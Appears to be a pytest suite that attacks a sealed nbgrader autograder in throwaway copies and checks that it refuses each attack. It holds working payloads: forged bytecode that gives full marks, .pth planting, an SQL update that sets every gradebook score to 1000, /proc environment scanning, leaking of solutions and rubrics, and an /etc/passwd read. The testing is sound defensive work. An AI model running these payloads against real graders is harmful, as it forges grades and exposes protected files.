"""nbgrader sealed: attacks on the grader through nbgrader, end to end, and the pieces that
stop them.

The end-to-end part works on a throwaway copy of the project (``autograder/``, ``solutions/``,
the course) in tmp: one course, several students whose notebooks carry attacks, autograded
and given feedback once (a module-scoped fixture), every assertion reading its results.
The attacks: planting bytecode in the grader's ``__pycache__`` (a score-forging
``runner.pyc``, a forged reference ``.pyc``), planting a ``.pth`` where ``site`` would read
it, writing into the gradebook, printing the reference, the rubric and the checks into the
cell's output, nbgrader's markers in the student's text, and forged outputs and edited test
cells in the handed-in file. The same planting cell, run once by nbgrader's own pipeline (a
kernel, in a second copy), shows the attack is real: it plants the file, and the grader of
that copy then refuses to grade and says why.
"""
from __future__ import annotations

import hashlib
import html
import importlib.util
import json
import marshal
import os
import py_compile
import shutil
import site
import sqlite3
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_output

pytest.importorskip("nbgrader")

from autograder import integrity, scoring  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
MARKERS = ("### BEGIN SOLUTION", "### END SOLUTION")
PTH = "zz-nbseal-attack.pth"            #: the .pth the attacker plants (inert: a path line)
SITE_DIRS = [Path(p) for p in site.getsitepackages() + [site.getusersitepackages()]]

#: Finds the project's folders from wherever it runs: the import system, the environment of
#: every process it can read (nbgrader's holds the project on PYTHONPATH), the working
#: folders of those processes, and the folders above its own. For the test's safety it keeps
#: only the test's copies (marked NBSEAL_TEST_TARGET), never another checkout on the machine.
FIND = r'''
import importlib.util as _iu, os as _os, pathlib as _pl
def _projects():
    seen = []
    try:
        spec = _iu.find_spec("autograder")
        if spec and spec.origin:
            seen.append(_pl.Path(spec.origin).parent.parent)
    except Exception:
        pass
    for entry in _os.environ.get("PYTHONPATH", "").split(_os.pathsep):
        seen.append(_pl.Path(entry))
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
            for item in env:
                if item.startswith(b"PYTHONPATH="):
                    seen += [_pl.Path(p) for p in item[11:].decode().split(_os.pathsep)]
            seen.append(_pl.Path(_os.readlink(f"/proc/{pid}/cwd")))
        except OSError:
            pass
    here = _pl.Path.cwd()
    seen += [here, *here.parents]
    out = []
    for p in seen:
        try:                           # the test's own copies only, never another checkout
            if (p / "NBSEAL_TEST_TARGET").is_file() and p not in out:
                out.append(p)
        except OSError:
            pass
    return out
'''

#: Writes a .pyc that Python accepts for autograder/runner.py (its header carries the source's
#: own timestamp and size) and whose run_check gives every check its full points, and one for
#: solutions/mha.py; in the kernel of nbgrader's own pipeline it works, in the sandbox it
#: finds nothing it can write.
PLANT = FIND + r'''
import importlib.util as _iu, marshal as _marshal
def _plant(source, code_text):
    st = source.stat()
    data = (_iu.MAGIC_NUMBER + (0).to_bytes(4, "little")
            + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
            + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
            + _marshal.dumps(compile(code_text, str(source), "exec")))
    target = _pl.Path(_iu.cache_from_source(str(source)))
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(data)
for _root in _projects():
    try:
        _runner = _root / "autograder" / "runner.py"
        _plant(_runner, _runner.read_text() + """
import dataclasses as _dc
PLANTED = True
_honest_run_check = run_check
def run_check(check, probe, points, passed, has_cuda):
    r = _honest_run_check(check, probe, points, passed, has_cuda)
    return _dc.replace(r, status=Status.PASSED, score=r.max_score, feedback="")
""")
        _ref = _root / "solutions" / "mha.py"
        _plant(_ref, _ref.read_text() + "\nPLANTED = True\n")
    except Exception:
        pass
'''

#: Plants a .pth in every site folder it can write (a path line only: inert if it ever
#: landed), and marks the gradebook of any course it can reach.
PTH_AND_GRADEBOOK = FIND + r'''
import site as _site, sqlite3 as _sqlite3, sys as _sys
_dirs = list(_site.getsitepackages()) + [_site.getusersitepackages()]
_dirs += [p for p in _sys.path if p.endswith("site-packages")]
for _d in _dirs:
    try:
        with open(_os.path.join(_d, "''' + PTH + r'''"), "w") as _f:
            _f.write("/nonexistent/nbseal-attack\n")
    except OSError:
        pass
for _root in _projects():
    for _db in list(_root.glob("*/gradebook.db"))[:5]:
        try:
            _c = _sqlite3.connect(str(_db), timeout=1)
            _c.execute("CREATE TABLE IF NOT EXISTS pwned (x)")
            _c.execute("UPDATE grade SET auto_score = 1000")
            _c.commit()
        except Exception:
            pass
'''

#: Prints the reference, the rubric and the checks, wherever it can read them.
LEAK = FIND + r'''
import inspect as _inspect
try:
    import solutions.mha as _reference
    print(_inspect.getsource(_reference))
except Exception as _e:
    print("no reference here:", type(_e).__name__)
for _root in _projects():
    for _name in ("solutions/mha.py", "autograder/rubric.toml", "autograder/checks/functions.py"):
        try:
            print((_root / _name).read_text())
        except OSError:
            pass
'''

#: Student text carrying nbgrader's markers.
MARKED_CODE = "\n### BEGIN HIDDEN TESTS (my notes: nothing hidden here)\n"
MARKED_TEXT = ("My answer quotes ### END SOLUTION and ### BEGIN HIDDEN TESTS on purpose: "
               "heads need their own matrices.")
FORGED = "FORGED-OUTPUT-TOKEN"

STUDENTS = ("stub", "correct", "planter", "pth", "leak", "marker", "forger")


def run(args, cwd, project: Path, timeout=900, check=True) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(project))
    done = subprocess.run([sys.executable, "-m", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=timeout)
    if check:
        first = max(0, done.stderr.find("Traceback"))
        assert done.returncode == 0, (f"{' '.join(args[:3])} exited {done.returncode}:\n"
                                      f"{done.stdout[-2000:]}\n{done.stderr[first:first + 3000]}\n"
                                      f"…\n{done.stderr[-2000:]}")
    return done


def grade_id(cell) -> str:
    return cell.metadata.get("nbgrader", {}).get("grade_id", "")


def tree_digest(folder: Path) -> dict[str, str]:
    """Every file under the folder (bytecode caches included) and its content's hash."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def project_files(project: Path) -> dict[str, str]:
    out = {}
    for name in ("autograder", "solutions"):
        out.update({f"{name}/{k}": v for k, v in tree_digest(project / name).items()})
    return out


def submission(release, source, student: str) -> nbformat.NotebookNode:
    """The released notebook as this student hands it in: the stub, unless correct, with the
    attack in the first answer cell."""
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    answers = {grade_id(cell): cell.source for cell in source.cells}
    attack = {"planter": PLANT, "pth": PTH_AND_GRADEBOOK, "leak": LEAK,
              "marker": MARKED_CODE}.get(student)
    after_task = None                  # the answer cell below a written question's task
    for cell in nb.cells:
        gid = grade_id(cell)
        answer_to, after_task = after_task, (gid if cell.metadata.get("nbgrader", {}).get("task")
                                             else None)
        if student == "correct" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = "\n".join(line for line in answers[gid].split("\n")
                                    if line.strip() not in MARKERS)
        if gid == "head_weight_shape" and attack:
            cell.source += "\n" + attack
        if student == "marker" and answer_to == "written_distinct_projections":
            cell.source = MARKED_TEXT
        if student == "forger" and cell.cell_type == "code":
            cell.outputs = [new_output("stream", name="stdout", text=f"{FORGED}: all pass\n"),
                            new_output("execute_result", data={"text/plain": "1000"},
                                       execution_count=1)]
            if gid.startswith(("hidden_", "test_")):
                cell.source = "print('ok')"
                cell.metadata.nbgrader["points"] = 1000
    if student == "forger":
        extra = new_code_cell("print('mine')", outputs=[new_output(
            "display_data", data={"text/html": f"<b>{FORGED}</b>", "text/plain": FORGED})])
        nb.cells.insert(3, extra)
    return nb


def cell_scores(course: Path) -> dict[str, dict[str, float]]:
    from nbgrader.api import Gradebook
    out = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "mha") as gb:
        for sub in gb.find_assignment("mha").submissions:
            grades = gb.find_submission_notebook("mha", "mha", sub.student.id).grades
            out[sub.student.id] = {g.name: g.score for g in grades}
    return out


def copy_project(where: Path) -> tuple[Path, Path]:
    """A throwaway project (autograder, solutions) and its course beside it."""
    project = where / "project"
    ignore = shutil.ignore_patterns("__pycache__")
    for name in ("autograder", "solutions"):
        shutil.copytree(ROOT / name, project / name, ignore=ignore)
    (project / "NBSEAL_TEST_TARGET").write_text("a throwaway copy the attacks may aim at\n")
    course = project / "course"
    shutil.copytree(ROOT / "assignments", course, ignore=shutil.ignore_patterns(
        "__pycache__", "stub", "gradescope", "classroom", "*.py"))
    shutil.copy(ROOT / "assignments" / "nbgrader_config.py", course)
    return project, course


def remove_planted_pth() -> list[Path]:
    found = [d / PTH for d in SITE_DIRS if (d / PTH).exists()]
    for path in found:
        path.unlink()
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """Release, seven submissions, a fail-closed run (TrustedGrades off), autograde, feedback,
    then `grade` and `audit` from the same copy; and nbgrader's own pipeline on the planter,
    in a second copy."""
    remove_planted_pth()
    tmp = tmp_path_factory.mktemp("nbseal")
    project, course = copy_project(tmp)
    run(["nbgrader", "generate_assignment", "mha"], course, project)
    release = nbformat.read(course / "release" / "mha" / "mha.ipynb", as_version=4)
    source = nbformat.read(course / "source" / "mha" / "mha.ipynb", as_version=4)
    for student in STUDENTS:
        folder = course / "submitted" / student / "mha"
        folder.mkdir(parents=True)
        nbformat.write(submission(release, source, student), folder / "mha.ipynb")
        (folder / "timestamp.txt").write_text("2026-01-01 12:00:00.000000 UTC")
    # nbgrader's own pipeline, in a second copy, runs the planter's cell in a kernel.
    plain = tmp / "plain"
    shutil.copytree(project, plain)
    config = (plain / "course" / "nbgrader_config.py").read_text()
    line = "c.Autograde.autograde_preprocessors = plugin.autograde_preprocessors()\n"
    (plain / "course" / "nbgrader_config.py").write_text(config.replace(line, ""))
    before = project_files(project)
    try:
        off = run(["nbgrader", "autograde", "mha", "--student", "correct",
                   "--TrustedGrades.enabled=False"], course, project)
        closed = cell_scores(course)["correct"]
        auto = run(["nbgrader", "autograde", "mha", "--force"], course, project)
        run(["nbgrader", "generate_feedback", "mha"], course, project)
        stub = course / "submitted" / "stub" / "mha" / "mha.ipynb"
        graded = json.loads(run(["autograder", "grade", str(stub), "--format", "json",
                                 "--seed", "0"], project, project).stdout)
        audit = json.loads(run(["autograder", "audit", str(course), "--format", "json"],
                               project, project).stdout)
        after = project_files(project)
        run(["nbgrader", "autograde", "mha", "--student", "planter"], plain / "course", plain)
        plain_files = project_files(plain)
        plain_grade = run(["autograder", "grade", str(stub), "--format", "json"], plain, plain,
                          check=False)
        plain_audit = run(["autograder", "audit", str(plain / "course")], plain, plain, check=False)
    finally:
        planted_pth = remove_planted_pth()
    with sqlite3.connect(course / "gradebook.db") as db:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master")}
    return {"project": project, "course": course, "before": before, "after": after,
            "scores": cell_scores(course), "closed": closed, "off_log": off.stderr,
            "log": auto.stderr, "graded": graded, "audit": audit, "tables": tables,
            "planted_pth": planted_pth, "plain": plain, "plain_files": plain_files,
            "plain_grade": plain_grade, "plain_audit": plain_audit}


def autograded_total(scores: dict[str, float]) -> float:
    return sum(v for k, v in scores.items() if not k.startswith("written_"))


def feedback(attacked, student: str) -> str:
    page = attacked["course"] / "feedback" / student / "mha" / "mha.html"
    return html.unescape(page.read_text())


@pytest.mark.slow
def test_nothing_the_submissions_did_changed_a_file_or_a_score(attacked):
    """Do the planting cells leave the copy's grader unchanged (no bytecode but Python's own), no
    .pth anywhere, the gradebook unmarked, and every stub-based attacker at 0 while the
    correct student keeps full marks?"""
    before, after = attacked["before"], attacked["after"]
    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    # Only bytecode Python itself wrote (the sandbox's interpreter caches its modules), each
    # file its source's own compilation.
    assert all("__pycache__" in k for k in changed), changed
    assert integrity.bytecode_findings(attacked["project"]) == []
    assert attacked["planted_pth"] == []
    assert "pwned" not in attacked["tables"]
    scores = attacked["scores"]
    questions = sum(v for k, v in scoring.load_rubric().points.items()
                    if k.startswith("questions."))              # a notebook's numeric questions
    assert autograded_total(scores["correct"]) == pytest.approx(100.0 + questions, abs=1e-3)
    for student in ("stub", "planter", "pth", "leak", "marker", "forger"):
        assert autograded_total(scores[student]) == pytest.approx(0.0, abs=1e-3), student
    assert "Execute" not in attacked["log"] and "Executing notebook" not in attacked["log"]


@pytest.mark.slow
def test_a_stub_graded_after_the_attacks_still_scores_0_and_audit_agrees(attacked):
    """Does `grade` from the same copy, after autograde ran every attack, give the untouched
    stub 0, and `audit` find every gradebook score equal to the re-grade, no bytecode?"""
    assert attacked["graded"]["score"] == 0.0
    audit = attacked["audit"]
    assert len(audit["submissions"]) == len(STUDENTS)
    assert audit["differences"] == [] and audit["failures"] == [] and audit["bytecode"] == []


@pytest.mark.slow
def test_without_trustedgrades_every_autograded_cell_scores_0(attacked):
    """Does the sealed pipeline fail closed: with TrustedGrades disabled, the correct student's
    autograded cells get 0 (nbgrader alone would give an unrun test cell full marks)?"""
    closed = attacked["closed"]
    assert closed and autograded_total(closed) == 0.0


@pytest.mark.slow
def test_the_planting_cell_is_real_and_the_grader_refuses_what_it_planted(attacked):
    """Run by nbgrader's own pipeline (a kernel), does the planter's cell write a runner .pyc
    that Python would load and that forges scores, and do `grade` and `audit` from that copy
    then refuse, naming the planted files?"""
    plain = attacked["plain"]
    runner = plain / "autograder" / "__pycache__" / f"runner.{sys.implementation.cache_tag}.pyc"
    reference = plain / "solutions" / "__pycache__" / f"mha.{sys.implementation.cache_tag}.pyc"
    assert runner.is_file() and reference.is_file()
    spec = importlib.util.spec_from_file_location("planted_runner",
                                                  plain / "autograder" / "runner.py")
    code = spec.loader.get_code("planted_runner")            # what a plain import would run
    assert "PLANTED" in code.co_names
    verdicts = {f.path: f.verdict for f in integrity.bytecode_findings(plain)}
    assert verdicts[str(runner.relative_to(plain))] == integrity.FOREIGN
    assert verdicts[str(reference.relative_to(plain))] == integrity.FOREIGN
    for done in (attacked["plain_grade"], attacked["plain_audit"]):
        assert done.returncode != 0
        said = done.stdout + done.stderr
        assert "planted bytecode" in said and "runner" in said and "Traceback" not in said


@pytest.mark.slow
def test_feedback_holds_no_reference_rubric_or_check_source(attacked):
    """Does the leaker's feedback hold none of the reference's solution lines, the rubric's or
    the checks' source, and the forger's none of its forged outputs?"""
    text = feedback(attacked, "leak")
    reference = (ROOT / "solutions" / "mha.py").read_text().split("\n")
    begin = [i for i, line in enumerate(reference) if line.strip() == MARKERS[0]]
    secrets = [line.strip() for b in begin for line in reference[b + 1:b + 4]
               if len(line.strip()) > 20 and line.strip() != MARKERS[1]]
    rubric = [line for line in (ROOT / "autograder" / "rubric.toml").read_text().split("\n")
              if line.startswith("# ") and len(line) > 40]
    checks = [line.strip() for line in (ROOT / "autograder" / "checks" / "functions.py")
              .read_text().split("\n") if line.startswith("def ")]
    assert secrets and rubric and checks
    for secret in secrets + rubric[:5] + checks[:5]:
        assert secret not in text, secret
    assert "graded by the autograder outside" in text         # the grader's own words are there
    assert FORGED not in feedback(attacked, "forger")


@pytest.mark.slow
def test_markers_in_student_text_do_not_stop_the_feedback(attacked):
    """Does the student whose code and written answer hold nbgrader's markers get feedback,
    with the text readable and the course's hidden tests still cut?"""
    text = feedback(attacked, "marker")
    plain = text.replace(integrity_break(), "")
    assert "my notes: nothing hidden here" in plain
    assert MARKED_TEXT.split(":")[0] in plain
    assert "### BEGIN HIDDEN TESTS (my notes" in plain        # reads as written
    assert "this cell proves nothing, so it scores nothing" not in text   # hidden source cut


def integrity_break() -> str:
    from autograder.nbgrader_plugin import BREAK
    return BREAK


# ---- the pieces, without nbgrader's commands ----------------------------------------------

def _pyc(source: Path, code_text: str, *, hash_based=False, checked=False,
         wrong_hash=False) -> Path:
    """A .pyc for source holding code_text: a timestamp one with the source's own header, or
    a hash-based one (checked or not, with the source's hash or a wrong one)."""
    raw = source.read_bytes()
    if hash_based:
        flags = 0b1 | (0b10 if checked else 0)
        h = bytes(8) if wrong_hash else importlib.util.source_hash(raw)
        header = flags.to_bytes(4, "little") + h
    else:
        st = source.stat()
        header = ((0).to_bytes(4, "little") + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
                  + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
    target = Path(importlib.util.cache_from_source(str(source)))
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(importlib.util.MAGIC_NUMBER + header
                       + marshal.dumps(compile(code_text, str(source), "exec")))
    return target


@pytest.fixture
def grader_tree(tmp_path):
    for name in ("autograder", "solutions"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "__init__.py").write_text("")
    (tmp_path / "autograder" / "runner.py").write_text("def score():\n    return 0\n")
    return tmp_path


def test_bytecode_equal_to_its_source_is_accepted(grader_tree):
    """Is the .pyc Python itself writes (the source's compilation) no finding, and the digest
    unchanged by its appearance?"""
    before = integrity.digest(grader_tree)
    py_compile.compile(str(grader_tree / "autograder" / "runner.py"), doraise=True)
    assert integrity.bytecode_findings(grader_tree) == []
    assert integrity.digest(grader_tree) == before


@pytest.mark.parametrize("kind", ["timestamp", "unchecked-hash"])
def test_forged_bytecode_python_would_load_is_refused(grader_tree, kind):
    """Is a .pyc with a valid header (the source's timestamp, or an unchecked hash) but other
    code called foreign, and does the digest refuse, naming it?"""
    pyc = _pyc(grader_tree / "autograder" / "runner.py", "def score():\n    return 100\n",
               hash_based=kind != "timestamp")
    found = integrity.bytecode_findings(grader_tree)
    assert [(f.path, f.verdict) for f in found] == [(str(pyc.relative_to(grader_tree)),
                                                      integrity.FOREIGN)]
    with pytest.raises(integrity.TamperedError, match="planted bytecode.*runner"):
        integrity.digest(grader_tree)


def test_bytecode_python_would_not_load_is_only_listed(grader_tree):
    """Are a checked-hash .pyc with a wrong hash (stale) and a .pyc without source (orphan)
    listed, but not refused?"""
    _pyc(grader_tree / "autograder" / "runner.py", "x = 1\n", hash_based=True, checked=True,
         wrong_hash=True)
    gone = grader_tree / "solutions" / "old.py"
    gone.write_text("y = 2\n")
    py_compile.compile(str(gone), doraise=True)
    gone.unlink()
    verdicts = sorted(f.verdict for f in integrity.bytecode_findings(grader_tree))
    assert verdicts == [integrity.ORPHAN, integrity.STALE]
    integrity.digest(grader_tree)


def test_a_code_file_without_source_is_refused(grader_tree):
    """Is an extension module or a sourceless .pyc dropped into a package refused?"""
    (grader_tree / "autograder" / f"runner.{sys.implementation.cache_tag}-x86_64-linux-gnu.so"
     ).write_bytes(b"\x7fELF")
    with pytest.raises(integrity.TamperedError, match="no source"):
        integrity.digest(grader_tree)


def test_the_grader_loads_its_modules_from_source_only(tmp_path):
    """In a copy of the project holding a planted runner .pyc and a sourceless module, does
    `import autograder.runner` run the source, write no bytecode, and refuse the other?"""
    project = tmp_path / "project"
    shutil.copytree(ROOT / "autograder", project / "autograder",
                    ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "solutions", project / "solutions",
                    ignore=shutil.ignore_patterns("__pycache__"))
    runner = project / "autograder" / "runner.py"
    _pyc(runner, runner.read_text() + "\nPLANTED = True\n")
    py_compile.compile(str(runner), cfile=str(project / "autograder" / "evil.pyc"), doraise=True)
    code = ("import autograder.runner as r, solutions\n"
            "print('planted' if hasattr(r, 'PLANTED') else 'source')\n"
            "try:\n    import autograder.evil\nexcept ImportError as e:\n    print('refused', e)\n")
    env = dict(os.environ, PYTHONPATH=str(project))
    env.pop("PYTHONDONTWRITEBYTECODE", None)
    done = subprocess.run([sys.executable, "-c", code], cwd=project, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split("\n")[0] == "source"
    assert "refused" in done.stdout and "not a source file" in done.stdout
    assert sorted(p.name for p in (project / "autograder" / "__pycache__").iterdir()) == \
        ["__init__." + sys.implementation.cache_tag + ".pyc",
         "runner." + sys.implementation.cache_tag + ".pyc"]
    assert not (project / "solutions" / "__pycache__").exists()


def test_markers_are_broken_and_the_text_reads_the_same():
    """Does neutralise() leave no nbgrader marker and only invisible characters added?"""
    from autograder.nbgrader_plugin import BREAK, MARKERS as NB_MARKERS, neutralise
    text = "a ### BEGIN HIDDEN TESTS b\n### END SOLUTION ### BEGIN SOLUTION END HIDDEN TESTS"
    out = neutralise(text)
    assert not any(m in out for m in NB_MARKERS)
    assert out.replace(BREAK, "") == text


def _notebook():
    nb = nbformat.v4.new_notebook()
    student = new_code_cell("print(open('/etc/passwd').read())", outputs=[
        new_output("stream", name="stdout", text="root:x:0:0")])
    student.metadata["nbgrader"] = {"grade": False, "solution": True, "locked": False,
                                    "grade_id": "split_heads", "schema_version": 3}
    test = new_code_cell("run_check(check_split_heads, api)",
                         outputs=[new_output("execute_result", data={"text/plain": "2"},
                                             execution_count=1)])
    test.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 2,
                                 "grade_id": "test_split_heads", "schema_version": 3}
    nb.cells = [student, test]
    return nb


def test_the_sealed_notebook_runs_nothing_and_scores_0_until_graded():
    """Does SealedNotebook clear every output and leave each autograded cell an error (0)?"""
    from nbgrader import utils
    from autograder.nbgrader_plugin import SealedNotebook
    nb, _ = SealedNotebook().preprocess(_notebook(), {})
    assert nb.cells[0].outputs == []
    assert [o.output_type for o in nb.cells[1].outputs] == ["error"]
    assert utils.determine_grade(nb.cells[1])[0] == 0


def test_feedback_keeps_outputs_only_on_the_graders_cells():
    """Does GraderOutputsOnly drop a student cell's output and keep our test cell's?"""
    from autograder.nbgrader_plugin import GraderOutputsOnly
    nb, _ = GraderOutputsOnly().preprocess(_notebook(), {})
    assert nb.cells[0].outputs == [] and len(nb.cells[1].outputs) == 1


def test_a_pipeline_that_still_runs_the_notebook_is_refused():
    """Does TrustedGrades refuse to score when nbgrader's Execute runs before it, and accept
    the sealed pipeline?"""
    from types import SimpleNamespace

    from nbgrader.preprocessors import Execute
    from autograder.nbgrader_plugin import SealedNotebook, TrustedGrades, UnsealedPipeline
    unsealed = SimpleNamespace(parent=SimpleNamespace(_preprocessors=[Execute()]))
    with pytest.raises(UnsealedPipeline, match="runs the student's notebook"):
        TrustedGrades._refuse_unsealed(unsealed)
    TrustedGrades._refuse_unsealed(SimpleNamespace(parent=SimpleNamespace(
        _preprocessors=[SealedNotebook()])))


def test_audit_lists_stale_bytecode_in_its_report():
    """Does audit's report name the stale .pyc files it found (never loaded, but there)?"""
    from autograder.audit import Audit, describe
    found = integrity.Finding("autograder/__pycache__/runner.cpython-311.pyc", integrity.STALE,
                              "out of date")
    audit = Audit("course", 0, "autograder/rubric.toml", bytecode=[found])
    assert "1 stale or orphaned .pyc" in describe(audit) and found.path in describe(audit)
    assert audit.to_dict()["bytecode"] == [found.to_dict()]
